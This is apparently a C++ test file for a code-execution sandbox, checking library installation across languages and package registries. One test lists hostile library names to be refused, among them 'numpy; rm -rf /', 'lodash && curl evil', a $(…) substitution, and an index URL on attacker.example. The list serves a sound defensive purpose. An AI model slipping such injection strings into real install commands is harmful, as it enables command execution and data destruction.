// Libraries installed on demand, for real: JavaScript from the npm registry, the other
// package managers from local sources the tests make (built inside sandboxes, so the host
// needs nothing), and names that could inject options or commands refused up front.
#include "BackendTestSupport.h"
#include "ScopedEnvironment.h"
#include "engine/ExecutionEngine.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QNetworkInterface>
#include <QProcess>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <gtest/gtest.h>

using namespace sandbox;
using namespace std::chrono_literals;

namespace {

class LibrariesTest : public ::testing::TestWithParam<std::string>
{
protected:
    Result<RunResult> run(const QString &language, const QString &code, const QStringList &libraries)
    {
        RunRequest request;
        request.language = language;
        request.code = code;
        request.libraries = libraries;
        request.timeout = 120s;
        return m_engine->run(request);
    }

    /// Runs `code` in a sandbox and saves what it wrote to its output folder under `folder`.
    void makeFixture(const QString &language, const QString &code, const QString &folder)
    {
        auto result = run(language, code, {});
        ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
        ASSERT_EQ(result->exitCode, 0) << result->stderrData.toStdString();
        ASSERT_FALSE(result->artifacts.isEmpty());
        for (const Artifact &artifact : result->artifacts) {
            const QString path = QDir(folder).filePath(artifact.name);
            QDir().mkpath(QFileInfo(path).path());
            QFile file(path);
            ASSERT_TRUE(file.open(QIODevice::WriteOnly));
            file.write(artifact.data);
        }
    }

    /// Serves `folder` over HTTP like a package registry; the URL the install step reaches it by through the
    /// engine's bridge network (this host's first non-loopback IPv4 address), empty on failure.
    QString serve(const QString &folder)
    {
        QString address;
        for (const QHostAddress &candidate : QNetworkInterface::allAddresses()) {
            if (candidate.protocol() == QAbstractSocket::IPv4Protocol && !candidate.isLoopback()) {
                address = candidate.toString();
                break;
            }
        }
        m_registry.setProgram(QStringLiteral("/usr/bin/python3"));
        m_registry.setArguments({"-u", "-m", "http.server", "--bind", "0.0.0.0", "--directory", folder, "0"});
        m_registry.start();
        // "Serving HTTP on 0.0.0.0 port 41235 (http://0.0.0.0:41235/) ..."
        static const QRegularExpression serving(QStringLiteral("port (\\d+)"));
        QByteArray said;
        while (m_registry.waitForReadyRead(10000)) {
            said += m_registry.readAllStandardOutput();
            if (const auto match = serving.match(QString::fromUtf8(said)); match.hasMatch() && !address.isEmpty()) {
                return QStringLiteral("http://%1:%2").arg(address, match.captured(1));
            }
        }
        ADD_FAILURE() << "http.server did not start: " << said.toStdString() << " (host address "
                      << address.toStdString() << ")";
        return {};
    }

    std::unique_ptr<ExecutionEngine> m_engine = test::engineFor(GetParam());
    QTemporaryDir m_offline;
    QProcess m_registry;
};

const char *const kNoNetworkCheck = "import os\nprint(sorted(os.listdir('/sys/class/net')))\n";

// Programs that write a package into their output folder, laid out as its package manager's offline folder and
// registry expect it.
/// A pure-Python wheel (llmsb-greeter 1.0).
const char *const kPythonWheel =
    "import os, zipfile\n"
    "out = os.environ['LLM_SANDBOX_OUTPUT_DIR']\n"
    "with zipfile.ZipFile(os.path.join(out, 'llmsb_greeter-1.0-py3-none-any.whl'), 'w') as whl:\n"
    "    whl.writestr('llmsb_greeter/__init__.py', 'def greet(n):\\n    return \"hello \" + n\\n')\n"
    "    whl.writestr('llmsb_greeter-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: "
    "llmsb-greeter\\nVersion: 1.0\\n')\n"
    "    whl.writestr('llmsb_greeter-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nGenerator: "
    "test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\n"
    "    whl.writestr('llmsb_greeter-1.0.dist-info/RECORD', '')\n";
/// A Go module proxy holding example.com/greeter v1.0.0.
const char *const kGoModule =
    "import os, zipfile\n"
    "base = os.path.join(os.environ['LLM_SANDBOX_OUTPUT_DIR'], 'example.com/greeter/@v')\n"
    "os.makedirs(base)\n"
    "open(os.path.join(base, 'list'), 'w').write('v1.0.0\\n')\n"
    "open(os.path.join(base, 'v1.0.0.info'), 'w').write('{\"Version\":\"v1.0.0\"}')\n"
    "mod = 'module example.com/greeter\\n\\ngo 1.19\\n'\n"
    "open(os.path.join(base, 'v1.0.0.mod'), 'w').write(mod)\n"
    "with zipfile.ZipFile(os.path.join(base, 'v1.0.0.zip'), 'w') as z:\n"
    "    z.writestr('example.com/greeter@v1.0.0/go.mod', mod)\n"
    "    z.writestr('example.com/greeter@v1.0.0/greeter.go', 'package greeter\\n\\nfunc Greet(n string) "
    "string { return \"hello \" + n }\\n')\n";
/// A Maven repository holding org.example:greeter:1.0.
const char *const kJavaJar =
    "import java.io.*;\nimport java.nio.file.*;\nimport java.util.jar.*;\nimport javax.tools.*;\n"
    "public class MakeJar {\n  public static void main(String[] a) throws Exception {\n"
    "    Path src = Files.createDirectories(Path.of(\"/tmp/src/org/example\"));\n"
    "    Files.writeString(src.resolve(\"Greeter.java\"), \"package org.example; public class Greeter { "
    "public static String greet(String n) { return \\\"hello \\\" + n; } }\");\n"
    "    if (ToolProvider.getSystemJavaCompiler().run(null, null, null, \"-d\", \"/tmp/classes\", "
    "src.resolve(\"Greeter.java\").toString()) != 0) System.exit(1);\n"
    "    Path dir = Files.createDirectories(Path.of(System.getenv(\"LLM_SANDBOX_OUTPUT_DIR\"), "
    "\"org/example/greeter/1.0\"));\n"
    "    try (JarOutputStream jar = new JarOutputStream(new "
    "FileOutputStream(dir.resolve(\"greeter-1.0.jar\").toFile()))) {\n"
    "      jar.putNextEntry(new JarEntry(\"org/example/Greeter.class\"));\n"
    "      jar.write(Files.readAllBytes(Path.of(\"/tmp/classes/org/example/Greeter.class\")));\n"
    "    }\n  }\n}\n";

} // namespace

TEST_P(LibrariesTest, javascriptInstallsFromTheNpmRegistryAndRunsWithoutNetwork)
{
    auto result = run("javascript",
                      "const isNumber = require('is-number');\n"
                      "console.log(isNumber(5), isNumber('five'));\n"
                      "console.log(require('fs').readdirSync('/sys/class/net').join(','));\n",
                      {"is-number@7.0.0"});
    ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
    EXPECT_EQ(result->stdoutData, "true false\nlo\n") << result->stderrData.toStdString();
}

TEST_P(LibrariesTest, pythonInstallsAWheelFromAnOfflineFolder)
{
    makeFixture("python", kPythonWheel, m_offline.path());
    test::ScopedEnvironment offline({{"LLM_SANDBOX_PIP_OFFLINE_DIR", m_offline.path().toUtf8()}});
    auto result =
        run("python", QString("import llmsb_greeter\nprint(llmsb_greeter.greet('wheel'))\n") + kNoNetworkCheck,
            {"llmsb_greeter==1.0"});
    ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
    EXPECT_EQ(result->stdoutData, "hello wheel\n['lo']\n") << result->stderrData.toStdString();
}

TEST_P(LibrariesTest, rubyInstallsAGemFromAnOfflineFolder)
{
    makeFixture(
        "ruby",
        "require 'rubygems/package'\nrequire 'fileutils'\n"
        "Dir.mkdir('/tmp/gem'); Dir.chdir('/tmp/gem')\nDir.mkdir('lib')\n"
        "File.write('lib/llmsb_greeter.rb', \"module LlmsbGreeter\\n  def self.greet(n) = \\\"hello "
        "\\#{n}\\\"\\nend\\n\")\n"
        "spec = Gem::Specification.new do |s|\n  s.name = 'llmsb_greeter'; s.version = '1.0.0'; s.summary = 'test'\n"
        "  s.authors = ['test']; s.files = ['lib/llmsb_greeter.rb']\nend\n"
        "FileUtils.mv(Gem::Package.build(spec), ENV['LLM_SANDBOX_OUTPUT_DIR'])\n",
        m_offline.path());
    test::ScopedEnvironment offline({{"LLM_SANDBOX_GEM_OFFLINE_DIR", m_offline.path().toUtf8()}});
    auto result = run("ruby", "require 'llmsb_greeter'\nputs LlmsbGreeter.greet('gem')\n", {"llmsb_greeter"});
    ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
    EXPECT_EQ(result->stdoutData, "hello gem\n") << result->stderrData.toStdString();
}

TEST_P(LibrariesTest, rInstallsASourcePackageFromAnOfflineFolder)
{
    makeFixture("r",
                "dir <- '/tmp/llmsbgreeter'\ndir.create(file.path(dir, 'R'), recursive = TRUE)\n"
                "writeLines(c('Package: llmsbgreeter', 'Version: 1.0', 'Title: Test', 'Description: Test.',\n"
                "  'Authors@R: person(\"T\", \"T\", email = \"t@example.com\", role = c(\"aut\", \"cre\"))',\n"
                "  'License: MIT'), file.path(dir, 'DESCRIPTION'))\n"
                "writeLines('export(greet)', file.path(dir, 'NAMESPACE'))\n"
                "writeLines('greet <- function(n) paste(\"hello\", n)', file.path(dir, 'R', 'greet.R'))\n"
                "setwd(Sys.getenv('LLM_SANDBOX_OUTPUT_DIR'))\n"
                "stopifnot(system2(file.path(R.home('bin'), 'R'), c('CMD', 'build', '--no-manual', dir)) == 0)\n",
                m_offline.path());
    test::ScopedEnvironment offline({{"LLM_SANDBOX_R_OFFLINE_DIR", m_offline.path().toUtf8()}});
    auto result = run("r", "library(llmsbgreeter)\ncat(greet('R'), '\\n')\n", {"llmsbgreeter"});
    ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
    EXPECT_EQ(result->stdoutData, "hello R \n") << result->stderrData.toStdString();
}

TEST_P(LibrariesTest, goInstallsAModuleFromAnOfflineProxyFolder)
{
    makeFixture("python", kGoModule, m_offline.path());
    test::ScopedEnvironment offline({{"LLM_SANDBOX_GO_OFFLINE_DIR", m_offline.path().toUtf8()}});
    auto result = run("go",
                      "package main\n\nimport (\n\t\"fmt\"\n\t\"example.com/greeter\"\n)\n\n"
                      "func main() { fmt.Println(greeter.Greet(\"go\")) }\n",
                      {"example.com/greeter@v1.0.0"});
    ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
    EXPECT_EQ(result->stdoutData, "hello go\n") << result->stderrData.toStdString();
}

TEST_P(LibrariesTest, javaPutsAJarFromALocalMavenRepositoryOnTheClasspath)
{
    makeFixture("java", kJavaJar, m_offline.path());
    test::ScopedEnvironment offline({{"LLM_SANDBOX_MAVEN_OFFLINE_DIR", m_offline.path().toUtf8()}});
    auto result = run("java",
                      "import org.example.Greeter;\npublic class Main {\n"
                      "  public static void main(String[] a) { System.out.println(Greeter.greet(\"java\")); }\n}\n",
                      {"org.example:greeter:1.0"});
    ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
    EXPECT_EQ(result->stdoutData, "hello java\n") << result->stderrData.toStdString();
}

// The same packages from registries over the network: the install step has network, the code none. On Kubernetes
// that is an installer pod, and what the install wrote is copied into the pod that runs the code.
TEST_P(LibrariesTest, pythonInstallsAWheelFromAPackageIndexOverTheNetwork)
{
    const QString index = m_offline.filePath(QStringLiteral("simple/llmsb-greeter"));
    makeFixture("python", kPythonWheel, index);
    const QString url = serve(m_offline.path());
    ASSERT_FALSE(url.isEmpty());
    test::ScopedEnvironment registry({{"LLM_SANDBOX_PIP_INDEX_URL", (url + QStringLiteral("/simple")).toUtf8()}});
    auto result =
        run("python", QString("import llmsb_greeter\nprint(llmsb_greeter.greet('index'))\n") + kNoNetworkCheck,
            {"llmsb_greeter==1.0"});
    ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
    EXPECT_EQ(result->stdoutData, "hello index\n['lo']\n") << result->stderrData.toStdString();
}

TEST_P(LibrariesTest, goInstallsAModuleFromAGoProxyOverTheNetwork)
{
    makeFixture("python", kGoModule, m_offline.path());
    const QString url = serve(m_offline.path());
    ASSERT_FALSE(url.isEmpty());
    test::ScopedEnvironment registry({{"LLM_SANDBOX_GOPROXY", url.toUtf8()}});
    auto result = run("go",
                      "package main\n\nimport (\n\t\"fmt\"\n\t\"os\"\n\t\"example.com/greeter\"\n)\n\n"
                      "func main() {\n\tnet, _ := os.ReadDir(\"/sys/class/net\")\n"
                      "\tfmt.Println(greeter.Greet(\"proxy\"), len(net))\n}\n",
                      {"example.com/greeter@v1.0.0"});
    ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
    EXPECT_EQ(result->stdoutData, "hello proxy 1\n") << result->stderrData.toStdString();
}

TEST_P(LibrariesTest, javaFetchesAJarFromAMavenRepositoryOverTheNetwork)
{
    makeFixture("java", kJavaJar, m_offline.path());
    const QString url = serve(m_offline.path());
    ASSERT_FALSE(url.isEmpty());
    test::ScopedEnvironment registry({{"LLM_SANDBOX_MAVEN_REPOSITORY", url.toUtf8()}});
    auto result = run("java",
                      "import org.example.Greeter;\npublic class Main {\n  public static void main(String[] a) {\n"
                      "    System.out.println(Greeter.greet(\"maven\") + \" \" + "
                      "new java.io.File(\"/sys/class/net\").list().length);\n  }\n}\n",
                      {"org.example:greeter:1.0"});
    ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
    EXPECT_EQ(result->stdoutData, "hello maven 1\n") << result->stderrData.toStdString();
}

TEST_P(LibrariesTest, namesThatCouldInjectAreRefusedBeforeAnythingRuns)
{
    struct Observer final : RunObserver
    {
        int progress = 0;
        void runProgress(const QString &, const RunProgress &) override { ++progress; }
    } observer;
    const QList<std::pair<QString, QString>> hostile = {
        {"python", "--index-url=http://attacker.example/simple"},
        {"python", "numpy; rm -rf /"},
        {"javascript", "$(touch /tmp/pwned)"},
        {"javascript", "lodash && curl evil"},
        {"ruby", "`id`"},
        {"r", "x'); system('id'); ('"},
        {"go", "-modfile=/etc/passwd"},
        {"java", "org.example:greeter:1.0 --help"},
    };
    for (const auto &[language, library] : hostile) {
        RunRequest request;
        request.language = language;
        request.code = "1";
        request.libraries = {library};
        auto result = m_engine->run(request, {}, &observer);
        ASSERT_FALSE(result.ok()) << library.toStdString();
        EXPECT_TRUE(result.error().message.contains("not a valid")) << result.error().message.toStdString();
    }
    EXPECT_EQ(observer.progress, 0) << "no sandbox was started";
}

TEST_P(LibrariesTest, failedInstallNamesTheLibraryAndDoesNotRunTheCode)
{
    QDir(m_offline.path()).mkpath(".");
    test::ScopedEnvironment offline({{"LLM_SANDBOX_PIP_OFFLINE_DIR", m_offline.path().toUtf8()}});
    auto result = run("python", "print('must not run')", {"nonexistent-package-xyz"});
    ASSERT_FALSE(result.ok());
    EXPECT_TRUE(result.error().message.contains("nonexistent-package-xyz")) << result.error().message.toStdString();
    EXPECT_TRUE(result.error().message.contains("not run")) << result.error().message.toStdString();
}

TEST_P(LibrariesTest, cppInstallsADebianPackageAndLinksItThroughPkgConfig)
{
    // fmt needs -lfmt: it only links when the package's pkg-config flags were applied.
    auto result = run("cpp",
                      "#include <fmt/core.h>\n#include <fstream>\n#include <iostream>\n"
                      "int main() {\n  fmt::print(\"{} + {} = {}\\n\", 20, 22, 42);\n"
                      "  std::ifstream net(\"/sys/class/net/eth0/mtu\");\n  std::cout << (net ? \"eth0\" : \"lo "
                      "only\") << \"\\n\";\n}\n",
                      {"libfmt-dev"});
    ASSERT_TRUE(result.ok()) << result.error().message.toStdString();
    EXPECT_EQ(result->stdoutData, "20 + 22 = 42\nlo only\n") << result->stderrData.toStdString();
}

INSTANTIATE_TEST_SUITE_P(Backends, LibrariesTest, ::testing::ValuesIn(test::backendNamesWithKubernetes()),
                         test::backendTestName);
